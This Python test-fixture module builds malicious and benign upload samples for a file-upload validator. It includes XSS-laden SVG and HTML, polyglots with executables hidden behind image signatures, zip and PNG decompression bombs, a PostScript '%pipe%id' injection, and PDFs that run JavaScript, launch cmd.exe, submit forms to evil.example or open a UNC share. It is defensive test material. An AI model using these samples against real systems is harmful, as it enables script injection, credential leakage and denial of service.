"""Files that somebody might upload to do harm, and harmless ones beside them. Made here: nothing hostile lies in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject


def jpeg(width: int = 40, height: int = 30, **more: object) -> bytes:
    """A small JPEG."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (120, 60, 20)).save(out, "JPEG", **more)
    return out.getvalue()


def png(width: int = 40, height: int = 30) -> bytes:
    """A small PNG that lets something through."""
    out = io.BytesIO()
    Image.new("RGBA", (width, height), (10, 60, 120, 128)).save(out, "PNG")
    return out.getvalue()


def pdf(change: Callable[[PdfWriter], object] | None = None, pages: int = 1) -> bytes:
    """A PDF of blank pages, with what `change` puts into it."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _name(text: str) -> NameObject:
    return NameObject(text)


def _action(kind: str, **more: object) -> DictionaryObject:
    found = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    found.update({_name(f"/{key}"): value for key, value in more.items()})
    return found


def _at_opening(action: DictionaryObject) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.root_object.update({_name("/OpenAction"): action})


def _on_page(key: str, value: object) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.pages[0].update({_name(key): value})


def _link(action: DictionaryObject) -> Callable[[PdfWriter], object]:
    mark = DictionaryObject(
        {_name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"), _name("/A"): action,
         _name("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)])}
    )  # fmt: skip
    return _on_page("/Annots", ArrayObject([mark]))


def _adrift(writer: PdfWriter) -> None:
    """A script that nothing points to, as an earlier version of the file would leave it."""
    writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))


def _named_script(writer: PdfWriter) -> None:
    """A script by the document's own list of names, which readers run at opening."""
    names = ArrayObject([TextStringObject("x"), _action("/JavaScript", JS=TextStringObject("app.alert(1)"))])
    scripts = DictionaryObject({_name("/JavaScript"): DictionaryObject({_name("/Names"): names})})
    writer.root_object.update({_name("/Names"): scripts})


def _deep(writer: PdfWriter) -> None:
    inner = ArrayObject()
    for _ in range(200):
        inner = ArrayObject([inner])
    _on_page("/Nested", inner)(writer)


def png_of(width: int, height: int, rows: int = 1) -> bytes:
    """A PNG that says it is so large, with a few bytes inside: a bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    body = zlib.compress(b"\x00" * (rows * (width // 8 + 1)), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", body)
        + chunk(b"IEND", b"")
    )


def zipped(name: str = "letter.pdf", content: bytes = b"x", size: int = 1) -> bytes:
    """An archive; with `size` a bomb."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content * size)
    return out.getvalue()


SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
EXE = b"MZ\x90\x00" + b"\x00" * 200

# what -> the bytes; each must be refused with a sentence.
REFUSED: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "too large": lambda: jpeg() + b"\x00" * (16 * 1024 * 1024),
    "SVG": lambda: SVG,
    "HTML": lambda: HTML,
    "HTML behind a PDF's mark": lambda: b"%PDF-1.4\n" + HTML,
    "SVG behind a PNG's mark": lambda: b"\x89PNG\r\n\x1a\n" + SVG,
    "a program": lambda: EXE,
    "a program behind a JPEG's mark": lambda: b"\xff\xd8\xff\xe0" + EXE,
    "a GIF": lambda: b"GIF89a" + b"\x01\x00\x01\x00\x00\x00\x00;",
    "a GIF that is a script": lambda: b"GIF89a=1;alert(1)//",
    "a TIFF": lambda: b"II*\x00" + b"\x08\x00\x00\x00" * 4,
    "an archive": lambda: zipped(),
    "a bomb of an archive": lambda: zipped(content=b"\x00" * 1000, size=20_000),
    "a Word document": lambda: zipped("word/document.xml", b"<w:document/>"),
    "PostScript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file\n",
    "HEIC by its mark alone": lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00heicmif1" + b"\x00" * 64,
    "AVIF": lambda: b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00avifmif1" + b"\x00" * 64,
    "a PNG of a thousand million points": lambda: png_of(40_000, 40_000),
    "a PNG just over the bound": lambda: png_of(10_000, 6_001),
    "half a JPEG": lambda: jpeg(400, 300)[:300],
    "a PNG with a wrong sum": lambda: png()[:40] + b"\x00\x00\x00\x00" + png()[44:],
    "a PDF with a script": lambda: pdf(_named_script),
    "a PDF with a script at opening": lambda: pdf(_at_opening(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))),
    "a PDF that starts a program": lambda: pdf(_at_opening(_action("/Launch", F=TextStringObject("cmd.exe")))),
    "a PDF with a program behind a link": lambda: pdf(_link(_action("/Launch", F=TextStringObject("cmd.exe")))),
    "a PDF with a file inside": lambda: pdf(lambda writer: writer.add_attachment("x.exe", EXE)),
    "a PDF that sends a form": lambda: pdf(_link(_action("/SubmitForm", F=TextStringObject("https://evil.example")))),
    "a PDF that opens another": lambda: pdf(_link(_action("/GoToR", F=TextStringObject("\\\\evil.example\\share\\x.pdf")))),
    "a PDF with a form that acts": lambda: pdf(
        lambda writer: writer.root_object.update({_name("/AcroForm"): DictionaryObject({_name("/XFA"): ArrayObject()})})
    ),
    "a PDF with a film": lambda: pdf(_on_page("/Annots", ArrayObject([DictionaryObject({_name("/Subtype"): _name("/RichMedia")})]))),
    "a PDF that acts when a page is shown": lambda: pdf(_on_page("/AA", DictionaryObject())),
    "a PDF with a script that nothing points to": lambda: pdf(_adrift),
    "a PDF with a script by another spelling": lambda: pdf(
        _at_opening(_action("/JavaScript", JS=TextStringObject("x")))
    ).replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/J#53"),
    "a locked PDF": lambda: pdf(lambda writer: writer.encrypt("word", algorithm="RC4-128")),
    "a PDF of 101 pages": lambda: pdf(pages=101),
    "a PDF nested without end": lambda: pdf(_deep),
    "a PDF with a page behind its end": lambda: pdf() + HTML,
    "a PDF with an archive behind its end": lambda: pdf() + zipped(),
    "an archive before a PDF's end": lambda: pdf().replace(b"%%EOF", b"") + zipped()[:-2] + b"\x06\x00%%EOF\n",
    "half a PDF": lambda: pdf()[:200],
    "a PDF that is an archive's comment": lambda: b"PK\x03\x04" + pdf(),
}  # fmt: skip

# what -> the bytes; taken, and what is kept is of that kind and holds none of it.
TAKEN: dict[str, tuple[Callable[[], bytes], str]] = {
    "a JPEG with a page behind it": (lambda: jpeg() + HTML, "jpeg"),
    "a JPEG with an archive behind it": (lambda: jpeg() + zipped(), "jpeg"),
    "a JPEG with a script in its comment": (lambda: jpeg(comment=HTML), "jpeg"),
    "a PNG with a page behind it": (lambda: png() + HTML, "png"),
    "a PDF": (lambda: pdf(), "pdf"),
    "a PDF with a link to a page": (lambda: pdf(_link(_action("/URI", URI=TextStringObject("https://school.example")))), "pdf"),
}
